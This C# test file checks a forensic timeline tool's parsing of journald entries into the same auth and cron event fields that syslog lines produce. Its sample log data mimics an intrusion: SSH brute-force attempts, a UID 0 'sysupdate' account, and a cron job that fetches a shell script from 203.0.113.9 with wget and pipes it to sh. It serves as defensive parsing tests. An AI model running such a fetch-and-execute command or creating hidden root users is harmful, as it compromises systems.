using Timeline.Core.Vocabulary;
using Timeline.Parsers.Linux.Syslog;
using Timeline.Tests.Parsers.Linux.Syslog;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.Journald;

/// <summary>Journal messages go through the same grammars as auth.log and cron lines.</summary>
public sealed class JournaldDispatchTests
{
    [Theory]
    [InlineData("sshd", "Failed password for invalid user admin from 203.0.113.45 port 51234 ssh2", "linux/auth", "ssh_failed")]
    [InlineData("sshd-session", "Accepted publickey for root from 198.51.100.23 port 55002 ssh2: ED25519 SHA256:abc", "linux/auth", "ssh_accepted")]
    [InlineData("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root", "linux/auth", "pam_auth_failure")]
    [InlineData("sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id", "linux/auth", "sudo")]
    [InlineData("useradd", "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0", "linux/auth", "user_add")]
    [InlineData("systemd-logind", "New session 14 of user deploy.", "linux/auth", "logind_new_session")]
    [InlineData("CRON", "(root) CMD (wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1)", "linux/cron", "cron_cmd")]
    [InlineData("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", "linux/auth", "session_open")]
    [InlineData("crontab", "(root) REPLACE (root)", "linux/cron", "cron_replace")]
    [InlineData("systemd", "Started sysupdate.service - System Update Service.", "linux/journald", null)]
    [InlineData("kernel", "EXT4-fs (sdb1): mounted filesystem", "linux/journald", null)]
    public void MessageGoesToTheGrammarOfItsProgram(string program, string message, string parser, string? @event)
    {
        var outcome = new JournalExport().Entry(JournalExport.March2, program, "2211", message).Parse();

        var e = Assert.Single(outcome.Events);
        Assert.Equal(parser, e.Parser);
        Assert.Equal(@event, e.Fields.Get(FieldNames.Event));
    }

    [Theory]
    [InlineData("sshd", "Failed password for invalid user admin from 203.0.113.45 port 51234 ssh2")]
    [InlineData("sshd", "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")]
    [InlineData("sudo", "   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")]
    [InlineData("CRON", "(root) CMD (/var/lib/sysupdate/watch.sh >/dev/null 2>&1)")]
    [InlineData("usermod", "add 'bob' to group 'sudo'")]
    public void JournalEntryAndAuthLogLineGiveTheSameNormalizedFields(string program, string message)
    {
        var fromSyslog = SyslogLines.One($"2024-03-02T03:15:02.481913+00:00 web02 {program}[2211]: {message}");
        var fromJournal = Assert.Single(new JournalExport().Entry(JournalExport.March2, program, "2211", message).Parse().Events);

        Assert.Equal(fromSyslog.Parser, fromJournal.Parser);
        Assert.Equal(fromSyslog.Ticks, fromJournal.Ticks);
        Assert.Equal(fromSyslog.Host, fromJournal.Host);
        Assert.Equal(SyslogLines.Fields(fromSyslog), SyslogLines.Fields(fromJournal).Replace("boot_id=c41f2a9e7b3d4e58a6f0d1b2c3e4f5a6|", "", StringComparison.Ordinal));
        Assert.Equal(fromSyslog.Message[(fromSyslog.Message.IndexOf(program, StringComparison.Ordinal))..], fromJournal.Message);
    }

    [Fact]
    public void AuthEventsKeepWhereTheProcessRanButNotTheJournalOnlyFields()
    {
        var outcome = new JournalExport()
            .Text("__REALTIME_TIMESTAMP", "1709349302481913")
            .Text("_BOOT_ID", "c41f2a9e7b3d4e58a6f0d1b2c3e4f5a6")
            .Text("PRIORITY", "5")
            .Text("SYSLOG_IDENTIFIER", "sudo")
            .Text("SYSLOG_PID", "2290")
            .Text("_UID", "1000")
            .Text("_TRANSPORT", "syslog")
            .Text("_EXE", "/usr/bin/sudo")
            .Text("_CMDLINE", "sudo bash -c id")
            .Text("_SYSTEMD_UNIT", "session-14.scope")
            .Text("MESSAGE", "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)")
            .End()
            .Parse();

        var e = Assert.Single(outcome.Events);
        Assert.Equal("linux/auth", e.Parser);
        Assert.Equal("0", e.Fields.Get("uid"));            // the grammar's uid (of the session's user), not _UID
        Assert.Equal("session-14.scope", e.Fields.Get("unit"));
        Assert.Equal("/usr/bin/sudo", e.Fields.Get("exe"));
        Assert.Equal("sudo bash -c id", e.Fields.Get("cmdline"));
        Assert.Equal("c41f2a9e7b3d4e58a6f0d1b2c3e4f5a6", e.Fields.Get("boot_id"));
        Assert.Null(e.Fields.Get("priority"));
        Assert.Null(e.Fields.Get("transport"));
    }
}
